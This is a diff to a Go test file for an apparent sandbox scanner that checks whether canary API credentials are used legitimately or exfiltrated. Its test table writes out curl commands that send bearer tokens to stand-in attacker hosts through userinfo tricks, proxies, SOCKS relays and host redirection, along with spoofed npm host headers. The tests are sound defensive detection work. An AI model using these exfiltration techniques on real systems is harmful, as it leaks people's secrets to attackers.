@@ -37,6 +37,13 @@ func TestAnalyzeCredentialUse(t *testing.T) {
 	curl := func(args ...string) observations {
 		return observations{Execs: []Exec{{Path: "/usr/bin/curl", Argv: append([]string{"curl"}, args...)}}}
 	}
+	// curlSeen is curl whose request the sinkhole saw reach the API as a use.
+	curlSeen := func(args ...string) observations {
+		o := curl(args...)
+		o.HTTP = []httpRaw{{HTTPRequest: HTTPRequest{TLS: true, SNI: "api.openai.com", Dest: "api.openai.com"},
+			Data: []byte("GET /v1/models HTTP/1.1\r\nHost: api.openai.com\r\nAuthorization: Bearer " + openai.Value + "\r\n\r\n")}}
+		return o
+	}
 	for _, tt := range []struct {
 		name   string
 		obs    observations
@@ -50,7 +57,7 @@ func TestAnalyzeCredentialUse(t *testing.T) {
 		{"NpmHostHeaderSpoofed", observations{HTTP: []httpRaw{{HTTPRequest: HTTPRequest{TLS: true, SNI: "collector.evil.example", Dest: "collector.evil.example"}, Data: npmGet("registry.npmjs.org")}}}, npm.Name, false},
 		{"NpmSNISpoofed", observations{HTTP: []httpRaw{{HTTPRequest: HTTPRequest{TLS: true, SNI: "registry.npmjs.org", Dest: "registry.npmjs.org"}, Data: npmGet("collector.evil.example")}}}, npm.Name, false},
 		{"LookalikeHost", observations{HTTP: []httpRaw{{HTTPRequest: HTTPRequest{TLS: true, SNI: "registry.npmjs.org.evil.example", Dest: "registry.npmjs.org.evil.example"}, Data: npmGet("registry.npmjs.org.evil.example")}}}, npm.Name, false},
-		{"CurlToItsAPI", curl("-H", "Authorization: Bearer "+openai.Value, "https://api.openai.com/v1/models"), openai.Name, true},
+		{"CurlToItsAPI", curlSeen("-H", "Authorization: Bearer "+openai.Value, "https://api.openai.com/v1/models"), openai.Name, true},
 		{"CurlToItsAPIAndElsewhere", curl("-H", "Authorization: Bearer "+openai.Value, "https://api.openai.com/v1/models", "https://evil.example/"), openai.Name, false},
 		{"CurlInClear", curl("-H", "Authorization: Bearer "+openai.Value, "http://api.openai.com/v1/models"), openai.Name, false},
 		{"CurlUserinfoTrick", curl("-d", openai.Value, "https://api.openai.com@evil.example/"), openai.Name, false},
@@ -65,12 +72,14 @@ func TestAnalyzeCredentialUse(t *testing.T) {
 		{"AnthropicHeader", observations{HTTP: []httpRaw{{HTTPRequest: HTTPRequest{TLS: true, SNI: "api.anthropic.com", Dest: "api.anthropic.com"},
 			Data: []byte("POST /v1/messages HTTP/1.1\r\nHost: api.anthropic.com\r\nx-api-key: " + anthropic.Value + "\r\n\r\n{}")}}}, anthropic.Name, true},
 		{"CurlDataToItsAPI", curl("-d", "key="+openai.Value, "https://api.openai.com/v1/x"), openai.Name, false},
-		{"CurlHeaderEquals", curl("--header=Authorization: Bearer "+openai.Value, "https://api.openai.com/v1/models"), openai.Name, true},
+		{"CurlHeaderEquals", curlSeen("--header=Authorization: Bearer "+openai.Value, "https://api.openai.com/v1/models"), openai.Name, true},
 		{"CurlConnectTo", curl("--connect-to", "api.openai.com:443:evil.example:443", "-H", "Authorization: Bearer "+openai.Value, "https://api.openai.com/v1/models"), openai.Name, false},
 		{"CurlInsecureGlued", curl("-skH", "Authorization: Bearer "+openai.Value, "https://api.openai.com/v1/models"), openai.Name, false},
 		{"CurlProxy", curl("-x", "evil.example:8080", "-H", "Authorization: Bearer "+openai.Value, "https://api.openai.com/v1/models"), openai.Name, false},
 		{"CurlResolveEquals", curl("--resolve=api.openai.com:443:203.0.113.9", "-H", "Authorization: Bearer "+openai.Value, "https://api.openai.com/v1/models"), openai.Name, false},
-		{"CurlSilentStillUse", curl("-sS", "-H", "Authorization: Bearer "+openai.Value, "https://api.openai.com/v1/models"), openai.Name, true},
+		{"CurlSilentStillUse", curlSeen("-sS", "-H", "Authorization: Bearer "+openai.Value, "https://api.openai.com/v1/models"), openai.Name, true},
+		{"CurlUnseenRequest", curl("-H", "Authorization: Bearer "+openai.Value, "https://api.openai.com/v1/models"), openai.Name, false},
+		{"CurlSocks", curl("--socks5-hostname", "relay.example:1080", "-H", "Authorization: Bearer "+openai.Value, "https://api.openai.com/v1/models"), openai.Name, false},
 		{"CurlOtherHeader", curl("-H", "X-Note: "+openai.Value, "https://api.openai.com/v1/models"), openai.Name, false},
 		{"AWSSecretNeverUsed", observations{HTTP: []httpRaw{{HTTPRequest: HTTPRequest{TLS: true, SNI: "sts.amazonaws.com", Dest: "sts.amazonaws.com"},
 			Data: []byte("POST / HTTP/1.1\r\nHost: sts.amazonaws.com\r\nX-Api-Key: " + awsSecret.Value + "\r\n\r\n")}}}, awsSecret.Name, false},
@@ -307,6 +316,24 @@ func TestAnalyzeShellPort(t *testing.T) {
 		}
 		if got != tt.want {
 			t.Errorf("%s:%d: DY015 %v, want %v (%+v)", tt.addr, tt.port, got, tt.want, r.Findings)
+		}
+	}
+}
+
+// Events past a recording limit are counted and weigh: network ones flag (a
+// flood can hide what follows it), the others are recorded at low.
+func TestAnalyzeFlood(t *testing.T) {
+	for _, tt := range []struct {
+		kind string
+		sev  scan.Severity
+	}{
+		{"connection", scan.High}, {"http", scan.High}, {"network", scan.High}, {"dns", scan.High},
+		{"exec", scan.Low}, {"file", scan.Low},
+	} {
+		r := &Report{}
+		analyze(r, &observations{Dropped: map[string]int{tt.kind: 3}}, NewCanaries(), nil, nil, "")
+		if len(r.Findings) != 1 || r.Findings[0].RuleID != RuleFlood || r.Findings[0].Severity != tt.sev {
+			t.Errorf("%s: findings %+v, want one DY016 at %s", tt.kind, r.Findings, tt.sev)
 		}
 	}
 }
